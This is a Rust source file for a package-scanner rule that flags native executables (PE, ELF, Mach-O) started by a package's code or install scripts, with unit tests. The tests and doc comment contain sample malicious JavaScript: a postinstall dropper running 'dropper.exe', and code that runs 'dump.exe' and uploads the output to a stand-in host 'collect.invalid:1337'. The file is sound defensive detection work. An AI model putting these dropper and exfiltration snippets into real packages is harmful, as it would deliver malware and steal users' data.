use std::collections::HashSet;

use palisade_diagnostics::{Finding, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

/// Executable formats by magic bytes.
fn executable_format(data: &[u8]) -> Option<&'static str> {
    if data.starts_with(b"MZ") && data.len() > 0x40 {
        Some("Windows PE")
    } else if data.starts_with(b"\x7fELF") {
        Some("ELF")
    } else if [
        b"\xfe\xed\xfa\xce",
        b"\xfe\xed\xfa\xcf",
        b"\xce\xfa\xed\xfe",
        b"\xcf\xfa\xed\xfe",
    ]
    .iter()
    .any(|m| data.starts_with(*m))
    {
        Some("Mach-O")
    } else {
        None
    }
}

declare_rule! {
    /// ## What it does
    /// Finds native executables (Windows PE, ELF, Mach-O, by content) shipped
    /// in the package and started by its code or scripts. Critical when that
    /// happens at install, or when the file that starts it also sends data to
    /// an outside server (a bundled dump tool whose output is uploaded); high
    /// otherwise.
    ///
    /// ## Why is this bad?
    /// A binary cannot be reviewed or diffed like source, and a package that
    /// runs its own `.exe` on install is a dropper by shape. Packages that
    /// legitimately ship prebuilt tools usually build or download them per
    /// platform and say so.
    ///
    /// ## Example
    /// ```js
    /// // run by "postinstall": "node app.js"
    /// require('child_process').exec('dropper.exe');
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1204.002 (User Execution: Malicious File).
    BundledExecutable {
        id: "exec/bundled-executable",
        severity: Critical,
        status: Stable,
        summary: "A native executable shipped in the package is started by its code or scripts",
    }
}

impl Rule for BundledExecutable {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        let exes: Vec<(String, &str)> = ctx
            .package
            .files
            .iter()
            .filter_map(|f| {
                executable_format(&f.data).map(|fmt| {
                    (
                        f.path
                            .rsplit('/')
                            .next()
                            .unwrap_or(&f.path)
                            .to_ascii_lowercase(),
                        fmt,
                    )
                })
            })
            .collect();
        if exes.is_empty() {
            return;
        }
        let mut seen = HashSet::new();
        let runs = ctx
            .facts
            .processes
            .iter()
            .filter_map(|p| Some((p.command.as_deref()?, &p.at)))
            .chain(
                ctx.facts
                    .scripts
                    .iter()
                    .map(|s| (s.command.as_str(), &s.at)),
            );
        for (cmd, at) in runs {
            let lower = cmd.to_ascii_lowercase();
            let words: Vec<&str> = lower
                .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '&' | '|'))
                .collect();
            for (name, fmt) in &exes {
                let named = words
                    .iter()
                    .any(|w| w.rsplit(['/', '\\']).next() == Some(name.as_str()));
                if !named || !seen.insert((name.clone(), at.install_time)) {
                    continue;
                }
                // The same file then sends something to an outside server:
                // a bundled tool whose results leave the machine.
                let uploads = ctx.facts.network.iter().find(|n| {
                    n.api.is_some()
                        && n.at.location.path == at.location.path
                        && n.host.as_deref().is_some_and(|h| !ctx.is_vendor_host(h))
                        && !n.host_kind.is_some_and(|k| {
                            matches!(
                                k,
                                palisade_diagnostics::HostKind::Loopback
                                    | palisade_diagnostics::HostKind::PrivateIp
                            )
                        })
                });
                let severity = if at.install_time || uploads.is_some() {
                    Severity::Critical
                } else {
                    Severity::High
                };
                let when = match (at.install_time, uploads) {
                    (true, _) => " at install".to_owned(),
                    (false, Some(n)) => format!(
                        " and sends data to `{}`",
                        n.host.as_deref().unwrap_or_default()
                    ),
                    (false, None) => String::new(),
                };
                out.push(
                    ctx.at(
                        Finding::new(
                            Self::META.id,
                            severity,
                            format!("runs the bundled {fmt} executable `{name}`{when}: `{cmd}`"),
                        ),
                        &at.location,
                    )
                    .at_install_time(at.install_time)
                    .with_capability("process"),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    const PE: &str = "MZ\u{90}\0\u{3}\0\0\0\u{4}\0\0\0\u{ff}\u{ff}\0\0this program cannot be run in DOS mode.............................";

    #[test]
    fn rule() {
        Tester::new(&BundledExecutable::META).test(
            &[Case::Files(&[
                (
                    "package.json",
                    r#"{"name":"a","scripts":{"postinstall":"node app.js"}}"#,
                ),
                ("app.js", "require('child_process').exec('dropper.exe');"),
                ("dropper.exe", PE),
            ]),
            Case::Files(&[
                ("package.json", r#"{"name":"a"}"#),
                ("index.js", "const cp = require('child_process');\ncp.exec('.\\\\dump.exe /shtml out.html', () => {\n  require('axios').post('http://collect.invalid:1337/p', require('fs').readFileSync('out.html', 'utf8'));\n});"),
                ("dump.exe", PE),
            ])],
            &[
                Case::Files(&[
                    ("package.json", r#"{"name":"a"}"#),
                    ("app.js", "require('child_process').exec('git status');"),
                    ("tool.exe", PE),
                ]),
                Case::Files(&[
                    ("package.json", r#"{"name":"a"}"#),
                    ("app.js", "require('child_process').exec('dropper.exe');"),
                    ("dropper.exe", "not a binary"),
                ]),
            ],
        );
    }
}
